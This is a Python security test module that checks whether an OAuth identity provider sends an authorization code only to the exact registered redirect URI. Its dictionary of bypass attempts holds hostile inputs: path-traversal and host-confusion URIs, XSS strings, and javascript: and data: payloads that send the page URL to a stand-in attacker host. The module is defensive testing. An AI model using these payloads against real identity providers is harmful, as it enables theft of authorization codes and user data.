"""Redirect-URI bypasses: only the exact registered URI ever receives a code (RFC 9700 4.1).

The victim is signed in, so a request the IdP accepted would send a code at once: every
attempt must end on an error page at the IdP instead, never with a redirect (or a
form_post page) towards the attacker's URI.
"""

from __future__ import annotations

import pytest

from tests.driver import authorization_params, pkce_pair
from tests.factories import REDIRECT_URI
from tests.security.conftest import ATTACKER, LiveClient, LiveIdP, LiveResponse, signed_in

# The registered URI is https://rp.example.org/callback.
BYPASSES = {
    "path-dot-dot": "https://rp.example.org/callback/../../attacker",
    "path-dot-dot-encoded": "https://rp.example.org/callback/..%2F..%2Fattacker",
    "encoded-slash": "https://rp.example.org/callback%2F..%2Fattacker",
    "encoded-letter": "https://rp.example.org/%63allback",
    "encoded-host-dot": "https://rp.example.org%2Eattacker.example/callback",
    "userinfo-attacker-host": "https://rp.example.org@attacker.example/callback",
    "userinfo-registered-host": "https://attacker.example@rp.example.org/callback",
    "backslash-userinfo": "https://attacker.example\\@rp.example.org/callback",
    "added-query": "https://rp.example.org/callback?next=https://attacker.example",
    "added-fragment": "https://rp.example.org/callback#@attacker.example",
    "other-port": "https://rp.example.org:8443/callback",
    "other-scheme": "http://rp.example.org/callback",
    "javascript": "javascript:fetch('https://attacker.example/'+document.URL)//https://rp.example.org/callback",
    "javascript-host": "javascript://rp.example.org/callback%0Aalert(document.domain)",
    "data": "data:text/html,<script>location='https://attacker.example/'+location</script>",
    "trailing-slash": "https://rp.example.org/callback/",
    "host-case": "https://RP.example.org/callback",
    "non-ascii": "https://rp.example.org/callb\u00e4ck",
    "quote": 'https://rp.example.org/callback"><script>alert(1)</script>',
    "suffix-domain": "https://rp.example.org.attacker.example/callback",
    "protocol-relative": "//attacker.example/callback",
    "attacker-host": ATTACKER + "/callback",
}


@pytest.fixture(scope="module")
def victim(idp: LiveIdP) -> LiveClient:
    """The module's person, signed in: an accepted request would answer with a code."""
    return signed_in(idp)


def assert_refused_at_the_idp(response: LiveResponse, redirect_uri: str) -> None:
    """An error page at the IdP: no Location, no form or link towards `redirect_uri`."""
    assert response.status_code == 400, (response.status_code, response.location)
    assert "Location" not in response.headers
    assert response.mimetype == "text/html"
    body = response.text
    assert "code=" not in body and 'name="code"' not in body
    assert f'action="{redirect_uri}' not in body and f'href="{redirect_uri}' not in body


@pytest.mark.parametrize("response_mode", ["query", "form_post"])
@pytest.mark.parametrize("redirect_uri", BYPASSES.values(), ids=BYPASSES.keys())
def test_redirect_uri_bypass_gets_an_error_page_not_a_redirect(
        idp: LiveIdP, victim: LiveClient, redirect_uri: str, response_mode: str) -> None:
    _, challenge = pkce_pair()
    params = authorization_params(idp.rp.client_id, redirect_uri=redirect_uri,
                                  response_mode=response_mode, code_challenge=challenge,
                                  code_challenge_method="S256")
    assert_refused_at_the_idp(victim.get("/authorize", query_string=params), redirect_uri)


def test_the_registered_redirect_uri_does_get_the_code(idp: LiveIdP, victim: LiveClient) -> None:
    """The control: the same request with the exact registered URI is answered at once."""
    response = victim.get("/authorize", query_string=authorization_params(idp.rp.client_id))
    assert response.status_code == 302 and response.location.startswith(REDIRECT_URI + "?code=")


@pytest.mark.parametrize("response_type", [
    "token", "id_token", "id_token token", "code id_token", "code token", "none", "CODE", "",
    'code"',
])
def test_unsupported_response_type_with_an_attackers_redirect_uri_is_not_redirected(
        idp: LiveIdP, victim: LiveClient, response_type: str) -> None:
    redirect_uri = ATTACKER + "/callback"
    params = authorization_params(idp.rp.client_id, redirect_uri=redirect_uri,
                                  response_type=response_type)
    assert_refused_at_the_idp(victim.get("/authorize", query_string=params), redirect_uri)


@pytest.mark.parametrize("client_id", ["unknown-client", ""])
def test_unknown_client_with_an_attackers_redirect_uri_is_not_redirected(
        victim: LiveClient, client_id: str) -> None:
    redirect_uri = ATTACKER + "/callback"
    params = authorization_params(client_id, redirect_uri=redirect_uri)
    assert_refused_at_the_idp(victim.get("/authorize", query_string=params), redirect_uri)
